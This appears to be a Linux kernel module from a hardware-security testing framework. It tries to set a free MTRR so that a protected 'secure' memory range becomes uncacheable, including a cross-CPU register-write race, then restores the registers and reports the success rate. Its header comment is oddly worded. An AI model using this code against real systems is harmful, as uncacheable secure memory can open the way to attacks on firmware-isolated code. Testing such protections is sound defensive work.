/* SPDX-License-Identifier: MIT OR GPL-2.0-only */
/*
 * Makes secure memory uncacheable by an MTRR that was free. The other way another CPU writes the address of the range, its
 * own register, in between: who takes the last value written on any CPU for this one's sees nothing of it.
 */
#include "attack.h"

#include <linux/cpumask.h>
#include <linux/smp.h>
#include <asm/msr.h>
#include <asm/mtrr.h>

#define MTRR_COUNT 0xffu
#define MTRR_VALID (1ull << 11)

static u64 wanted;
static unsigned int done, ways;

static int free_range(void)
{
	u64 capability, mask;

	rdmsrl(MSR_MTRRcap, capability);
	for (int number = (int)(capability & MTRR_COUNT) - 1; number >= 0; number--) {
		rdmsrl(MTRRphysMask_MSR(number), mask);
		if (!(mask & MTRR_VALID))
			return number;
	}
	return -EBUSY;
}

/* The range is not valid there: the address has no effect. */
static void write_elsewhere(void *number)
{
	const u32 msr = MTRRphysBase_MSR(*(int *)number);
	u64 before;

	rdmsrl(msr, before);
	(void)wrmsrl_safe(msr, 0);
	(void)wrmsrl_safe(msr, before);
}

/* other: a CPU that writes in between, or none (nr_cpu_ids). */
static void attempt_with(int number, unsigned int other)
{
	const u64 all = PHYSICAL_PAGE_MASK & ((1ull << boot_cpu_data.x86_phys_bits) - 1);
	u64 base_before, mask_before, base = 0, mask = 0;

	rdmsrl(MTRRphysBase_MSR(number), base_before);
	rdmsrl(MTRRphysMask_MSR(number), mask_before);
	if (!wrmsrl_safe(MTRRphysBase_MSR(number), wanted)) {
		if (other < nr_cpu_ids)
			smp_call_function_single((int)other, write_elsewhere, &number, 1);
		if (!wrmsrl_safe(MTRRphysMask_MSR(number), all | MTRR_VALID)) {
			rdmsrl(MTRRphysBase_MSR(number), base);
			rdmsrl(MTRRphysMask_MSR(number), mask);
		}
	}
	(void)wrmsrl_safe(MTRRphysMask_MSR(number), mask_before);
	(void)wrmsrl_safe(MTRRphysBase_MSR(number), base_before);
	ways++;
	done += base == wanted && mask & MTRR_VALID;
}

static int attempt(void)
{
	unsigned int other;
	int number, result;
	u64 size;

	result = attack_secure_space(&wanted, &size);
	if (result)
		return result;
	wanted |= MTRR_TYPE_UNCACHABLE;
	number = free_range();
	if (number < 0)
		return number;
	/* Not with interrupts off, as the other CPU is waited for. */
	other = cpumask_any_but(cpu_online_mask, get_cpu());
	attempt_with(number, nr_cpu_ids);
	if (other < nr_cpu_ids)
		attempt_with(number, other);
	put_cpu();
	return 0;
}

static bool effect(void)
{
	attack_detail("%u of %u ways", done, ways);
	return attack_tries(done, ways);
}

static bool possible(void)
{
	return boot_cpu_has(X86_FEATURE_MTRR);
}

static const struct attack mtrr_secure = {"mtrr_secure", "mtrr", possible, attempt, effect, NULL};
ATTACK_MODULE(mtrr_secure);
